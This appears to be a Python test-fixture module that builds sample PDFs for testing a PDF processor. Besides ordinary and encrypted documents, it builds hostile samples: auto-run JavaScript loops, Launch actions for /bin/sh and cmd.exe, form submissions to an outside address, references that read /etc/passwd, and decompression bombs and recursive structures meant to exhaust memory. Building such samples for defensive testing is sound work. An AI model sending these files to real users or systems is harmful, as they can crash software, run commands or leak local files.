"""PDFs, written by hand for the tests: whole ones, and what somebody would send who wishes us harm.

small(["one page", "another"])         a document of plain pages
document(contents=[b"0 0 1 rg 0 0 9 9 re f"], catalog="/OpenAction << … >>")
"""

import hashlib
import zlib
from collections.abc import Callable, Sequence

A4 = "[0 0 595 842]"
BLUE_SQUARE = b"0 0 1 rg 100 600 100 100 re f"
ESCAPED = str.maketrans({"\\": r"\\", "(": r"\(", ")": r"\)"})
FONT = "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >> >>"


def assembled(objects: Sequence[bytes], trailer: str = "", *, root: int = 1) -> bytes:
    """Objects numbered from 1, their table, the trailer."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (len(objects) + 1, root, trailer.encode("latin-1"))
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return out + head + table + end + b"startxref\n%d\n%%%%EOF\n" % len(out)


def stream(data: bytes, entries: str = "") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries.encode()) + data + b"\nendstream"


def packed(data: bytes, entries: str = "") -> bytes:
    """A deflated stream object."""
    return stream(zlib.compress(data, 9), f"/Filter /FlateDecode {entries}")


def document(
    *,
    contents: Sequence[bytes] = (BLUE_SQUARE,),
    box: str = A4,
    resources: str = FONT,
    page: str = "",
    catalog: str = "",
    more: Sequence[bytes] = (),
    trailer: str = "",
    count: int | None = None,
    wrap: bool = True,
) -> bytes:
    """A document whose pages have these contents; `more` objects are numbered from 3 + 2 * len(contents)."""
    kids = " ".join(f"{3 + 2 * at} 0 R" for at in range(len(contents)))
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count {len(contents) if count is None else count} >>".encode(),
    ]
    for at, each in enumerate(contents):
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox {box} /Contents {4 + 2 * at} 0 R "
            f"/Resources << {resources} >> {page} >>".encode()
        )
        objects.append(stream(each) if wrap else each)
    return assembled([*objects, *more], trailer)


def lines(text: str) -> bytes:
    """Contents that write a text, a line a line."""
    shown = " T* ".join(f"({line.translate(ESCAPED)}) Tj" for line in text.split("\n"))
    return f"BT /F1 14 Tf 18 TL 72 760 Td {shown} ET".encode("latin-1")


def small(pages: Sequence[str] = ("A page.",)) -> bytes:
    """A document of text pages."""
    return document(contents=[lines(page) for page in pages])


def rc4(key: bytes, data: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def encrypted(password: bytes) -> bytes:
    """One page with a blue square, encrypted (ISO 32000-1, 7.6: V 1, R 2, 40-bit RC4) under a user password."""
    owner = rc4(hashlib.md5(_PAD).digest()[:5], (password + _PAD)[:32])
    named, rights = b"0123456789abcdef", (-4) & 0xFFFFFFFF
    key = hashlib.md5((password + _PAD)[:32] + owner + rights.to_bytes(4, "little") + named).digest()[:5]
    user = rc4(key, _PAD)
    contents = rc4(hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10], BLUE_SQUARE)
    lock = f"<< /Filter /Standard /V 1 /R 2 /O <{owner.hex()}> /U <{user.hex()}> /P -4 >>"
    return document(contents=[contents], trailer=f"/Encrypt {lock} /ID [<{named.hex()}> <{named.hex()}>]")


SCRIPT = "while (true) { app.alert(1); this.exportDataObject(1); }"
ACTIVE = {
    "script at opening": document(catalog=f"/OpenAction << /S /JavaScript /JS ({SCRIPT}) >>"),
    "named script": document(catalog=f"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({SCRIPT}) >>] >> >>"),
    "script of a page": document(page=f"/AA << /O << /S /JavaScript /JS ({SCRIPT}) >> >>"),
    "launch at opening": document(catalog="/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"),
    "address at opening": document(catalog="/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"),
    "other document at opening": document(catalog="/OpenAction << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>"),
    "form sent at opening": document(catalog="/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>"),
    "link": document(
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://192.0.2.1/) >> >>]"
    ),
    "attachment": document(
        catalog="/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.sh) /EF << /F 5 0 R >> >>] >> >>",
        more=[stream(b"#!/bin/sh\nexit 1\n", "/Type /EmbeddedFile")],
    ),
    "contents elsewhere": document(contents=[stream(b"", "/F (/etc/passwd)")], wrap=False),
    "picture elsewhere": document(
        contents=[b"/I Do " + BLUE_SQUARE],
        resources="/XObject << /I 5 0 R >>",
        more=[stream(b"", "/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /F (/etc/passwd)")],
    ),
    "form": document(
        catalog="/AcroForm << /Fields [5 0 R] /NeedAppearances true /XFA [(template) 6 0 R] >>",
        page="/Annots [5 0 R]",
        more=[
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (filled in) /Rect [9 9 99 19] /AA << /K 7 0 R >> >>",
            stream(b"<template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'/>"),
            b"<< /S /JavaScript /JS (while \\(true\\);) >>",
        ],
    ),
    "film": document(
        page="/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 "
        "/R << /S /MR /C << /S /MCD /D (/etc/passwd) >> >> >> >>]"
    ),
}  # fmt: skip
"""Documents that want something done. Every one has the blue square on its page."""

_LONG = b"0 0 1 rg 0 0 595 842 re f " * 8
_HUGE = "/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"


def _drawing(entries: str, data: bytes) -> bytes:
    draw = b"q 595 0 0 842 0 0 cm /I Do Q"
    return document(contents=[draw], resources="/XObject << /I 5 0 R >>", more=[packed(data, entries)])


def heavy() -> dict[str, Callable[[], bytes]]:
    """Documents that want more memory or time than there is, and those whose parts lead in circles, each made when it is wanted."""
    form = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /I {} 0 R /J {} 0 R >> >>"
    doubling = [stream(b"/I Do /J Do", form.format(at + 1, at + 1)) for at in range(5, 45)]
    return {
        "contents of a gigabyte": lambda: document(contents=[_gigabyte()], wrap=False),
        "picture of three gigabytes": lambda: _drawing(_HUGE, bytes(1 << 20)),
        "picture of ten thousand a side": lambda: _drawing(_HUGE.replace("30000", "10000"), bytes(300_000_000)),
        "forms that double": lambda: document(
            contents=[b"/I Do"], resources="/XObject << /I 5 0 R >>", more=[*doubling, stream(_LONG, form.format(5, 5))]
        ),
        "form within itself": lambda: document(
            contents=[b"/I Do " + BLUE_SQUARE],
            resources="/XObject << /I 5 0 R >>",
            more=[stream(b"/I Do", form.format(5, 5))],
        ),
        "pattern of points": lambda: document(
            contents=[b"/Pattern cs /P scn 0 0 595 842 re f"],
            resources="/Pattern << /P 5 0 R >>",
            more=[
                stream(
                    b"0 0 1 1 re f" * 100,
                    "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] "
                    "/XStep 0.0001 /YStep 0.0001 /Resources << >>",
                )
            ],
        ),
        "deep nesting": lambda: document(contents=[b"[" * 2_000_000]),
        "deep objects": lambda: document(more=[b"[" * 2_000_000], catalog="/Extra 5 0 R"),
        "a million saved states": lambda: document(contents=[b"q " * 1_000_000 + BLUE_SQUARE]),
        "a million strokes": lambda: document(contents=[b"0 0 m " + b"595 842 l 3 7 l " * 500_000 + b"S"]),
        "pages within themselves": lambda: assembled(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 4 >>"]
        ),
        "packed eight times": lambda: document(contents=[_nested()], wrap=False),
    }


def _gigabyte() -> bytes:
    """A deflated stream of a gigabyte, written as one block many times over."""
    part, times = _LONG * (1 << 14), 1 << 8
    deflater, sum_ = zlib.compressobj(9, wbits=-15), 1
    block = deflater.compress(part) + deflater.flush(zlib.Z_FULL_FLUSH)
    for _ in range(times):
        sum_ = zlib.adler32(part, sum_)
    data = b"\x78\xda" + block * times + deflater.flush() + sum_.to_bytes(4, "big")
    return stream(data, "/Filter /FlateDecode ")


def _nested() -> bytes:
    data = bytes(200_000_000)
    for _ in range(8):
        data = zlib.compress(data, 9)
    return stream(data, "/Filter [" + "/FlateDecode " * 8 + "]")
